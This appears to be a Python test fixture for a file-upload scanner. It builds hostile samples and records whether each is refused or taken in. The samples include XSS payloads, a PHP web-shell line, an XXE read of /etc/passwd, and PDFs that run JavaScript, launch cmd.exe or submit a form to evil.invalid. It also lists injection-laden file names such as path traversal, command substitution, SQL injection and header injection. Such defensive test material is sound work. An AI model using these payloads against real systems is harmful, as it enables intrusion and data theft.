"""Files that want to be run, shown or believed: each with what becomes of it at the door."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from PIL import Image, PngImagePlugin

from tests.scanning import files

SCRIPT = b"<script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
GPS = "12.2388N 109.1967E"
OWNER = "canary-owner-of-the-camera"


@dataclass(frozen=True)
class Hostile:
    """A file as it is sent, and whether it may come in."""

    name: str
    data: bytes
    is_taken: bool
    declared: str = "application/octet-stream"


def photo(**options: object) -> bytes:
    """A small photograph."""
    held = io.BytesIO()
    Image.new("RGB", (300, 420), (230, 230, 220)).save(held, "JPEG", **options)
    return held.getvalue()


def packed(**parts: bytes) -> bytes:
    """An office file."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as made:
        for name, data in parts.items():
            made.writestr(name.replace("__", "/"), data)
    return held.getvalue()


def changed_pdf(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
    """A page with something more."""
    made = files.pdf()
    change(made)
    return files.saved(made, **options)


def _action(kind: str, **more: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def _script() -> pikepdf.Dictionary:
    return _action("JavaScript", JS=pikepdf.String("app.alert(1)"))


def _annotated(kind: str, **more: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(f"/{kind}"), Rect=[0, 0, 500, 800], **more
        )
        made.pages[0].Annots = pikepdf.Array([made.make_indirect(note)])

    return change


def _rooted(**more: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        for name, value in more.items():
            made.Root[f"/{name}"] = value

    return change


def _paged(**more: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        for name, value in more.items():
            made.pages[0].obj[f"/{name}"] = value

    return change


def _with_form(made: pikepdf.Pdf) -> None:
    xfa = made.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script/></xdp:xdp>")
    target = _action("SubmitForm", F=pikepdf.String("https://evil.invalid/"))
    field = pikepdf.Dictionary(
        FT=pikepdf.Name.Tx,
        T=pikepdf.String("x"),
        Subtype=pikepdf.Name.Widget,
        A=target,
        Rect=[0, 0, 90, 90],
        AA=pikepdf.Dictionary(K=_script()),
    )
    field = made.make_indirect(field)
    made.pages[0].Annots = pikepdf.Array([field])
    made.Root.AcroForm = pikepdf.Dictionary(Fields=[field], XFA=xfa)


def exif_photo() -> bytes:
    """A photograph that says where it was taken, and by whose camera."""
    exif = Image.Exif()
    exif[0x013B] = OWNER
    exif[0x010E] = f"<script>{OWNER}</script>"
    exif.get_ifd(0x8825).update({1: "N", 2: (12.0, 14.0, 19.7), 3: "E", 4: (109.0, 11.0, 48.1)})
    notes = f"<x:xmpmeta xmlns:x='adobe:ns:meta/'>{GPS} {OWNER}</x:xmpmeta>".encode()
    return photo(exif=exif, xmp=notes, comment=OWNER)


def _noted_png() -> bytes:
    held, notes = io.BytesIO(), PngImagePlugin.PngInfo()
    notes.add_text("Comment", f"{SCRIPT.decode()} {OWNER}")
    notes.add_itxt("XML:com.adobe.xmp", f"<x>{GPS}{OWNER}</x>")
    Image.new("RGB", (300, 420), "white").save(held, "PNG", pnginfo=notes)
    return held.getvalue()


def _noted_tiff() -> bytes:
    held = io.BytesIO()
    page = Image.new("RGB", (300, 420), "white")
    page.save(held, "TIFF", tiffinfo={270: f"{HTML.decode()} {OWNER}"})
    return held.getvalue()


def _flash() -> bytes:
    return b"CWS\x09" + struct.pack("<I", 90) + zlib.compress(bytes(90))


REFUSED = (
    Hostile("hinh.svg", SVG, False, "image/svg+xml"),
    Hostile("hinh-svg.png", SVG, False, "image/png"),
    Hostile("hinh-xml.jpg", b'\xef\xbb\xbf<?xml version="1.0"?>' + SVG, False, "image/jpeg"),
    Hostile("trang.jpg", HTML, False, "image/jpeg"),
    Hostile("trang.pdf", HTML, False, "application/pdf"),
    Hostile("trang.html", b"\n\n  <!-- a -->" + HTML, False, "text/html"),
    Hostile("anh-js.gif", b"GIF89a/*\x00\x01*/=1;alert(1)//", False, "image/gif"),
    Hostile("anh-gif.jpg", b"GIF89a" + bytes(40) + SCRIPT, False, "image/jpeg"),
    Hostile("sau-trang.pdf", HTML + files.saved(files.pdf()), False),
    Hostile("sau-zip.pdf", packed(a=b"x") + files.saved(files.pdf()), False),
    Hostile("don.docm", packed(word__vbaProject_bin=b"x"), False),
    Hostile("bang.xlsm", packed(xl__vbaProject_bin=b"x"), False),
    Hostile("bang.pdf", packed(xl__workbook_xml=b"<x/>"), False),
    Hostile("cu.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), False),
    Hostile("chay.jpg", b"MZ" + bytes(600), False),
    Hostile("chay.png", b"\x7fELF" + bytes(600), False),
    Hostile("ma.js", b"alert(document.cookie)", False, "text/javascript"),
    Hostile("ma.php.jpg", b"<?php system($_GET['c']); ?>", False),
    Hostile(
        "xxe.jpg",
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        False,
    ),
    Hostile("thu.jpg", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML, False),
    Hostile("flash.jpg", _flash(), False),
    Hostile("ma.png", b"\0asm\1\0\0\0" + bytes(200), False),
    Hostile("khoa.pdf", files.encrypted(), False),
    Hostile("dong.pdf", files.dynamic_form(), False),
    Hostile("rong.jpg", b"", False),
)
TAKEN = (
    Hostile("duoi-trang.jpg", photo() + HTML, True, "text/html"),
    Hostile("trong-loi.jpg", photo(comment=HTML), True),
    Hostile("ghi-chu.png", _noted_png(), True, "image/svg+xml"),
    Hostile("ghi-chu.tif", _noted_tiff(), True),
    Hostile("noi-chup.jpg", exif_photo(), True),
    Hostile("duoi-zip.pdf", files.saved(files.pdf()) + packed(a=HTML), True, "application/zip"),
    Hostile("dau-trang.pdf", b"%PDF-1.7 " + SCRIPT + b"\n" + files.saved(files.pdf()), True),
    Hostile("mo-ra.pdf", files.with_script(), True, "text/html"),
    Hostile(
        "ten.pdf",
        changed_pdf(
            _rooted(
                Names=pikepdf.Dictionary(
                    JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("x"), _script()])
                )
            )
        ),
        True,
    ),
    Hostile(
        "phong.pdf",
        changed_pdf(_rooted(OpenAction=_action("Launch", F=pikepdf.String("cmd.exe")))),
        True,
    ),
    Hostile("kem.pdf", files.with_attachment(), True),
    Hostile(
        "khi-mo.pdf", changed_pdf(_paged(AA=pikepdf.Dictionary(O=_script(), C=_script()))), True
    ),
    Hostile("khi-dong.pdf", changed_pdf(_rooted(AA=pikepdf.Dictionary(WC=_script()))), True),
    Hostile(
        "lien-ket.pdf",
        changed_pdf(
            _annotated("Link", A=_action("URI", URI=pikepdf.String("javascript:alert(1)")))
        ),
        True,
    ),
    Hostile("gui-di.pdf", changed_pdf(_with_form), True),
    Hostile(
        "noi-khac.pdf",
        changed_pdf(
            _annotated("Link", A=_action("GoToR", F=pikepdf.String("\\\\evil.invalid\\x"), D=[0]))
        ),
        True,
    ),
    Hostile(
        "nhap.pdf",
        changed_pdf(_annotated("Link", A=_action("ImportData", F=pikepdf.String("x.fdf")))),
        True,
    ),
    Hostile(
        "phim.pdf",
        changed_pdf(
            _annotated(
                "RichMedia", AA=pikepdf.Dictionary(PO=_action("Rendition", JS=pikepdf.String("x")))
            )
        ),
        True,
    ),
    Hostile(
        "an.pdf",
        changed_pdf(
            _rooted(OpenAction=_script()), object_stream_mode=pikepdf.ObjectStreamMode.generate
        ),
        True,
        "image/jpeg",
    ),
)
NAMES = (
    "../../../etc/passwd.jpg",
    "..\\..\\windows\\win.jpg",
    "/etc/cron.d/x.jpg",
    "anh\u202egpj.exe.jpg",
    "a%0d%0aSet-Cookie: sid=1%0d%0a.jpg",
    "a%22; filename=%22b.html.jpg",
    "'; DROP TABLE dossiers; --.jpg",
    "<img src=x onerror=alert(1)>.jpg",
    "$(touch x) `id` -o x.jpg",
    "đơn xin cấp.jpg",
    "x" * 300 + ".jpg",
    "ả" * 130 + ".jpg",
    ".htaccess.jpg",
    ".jpg",
    "don.html.jpg",
    "=HYPERLINK(1).jpg",
    "{{7*7}}${7*7}.jpg",
)
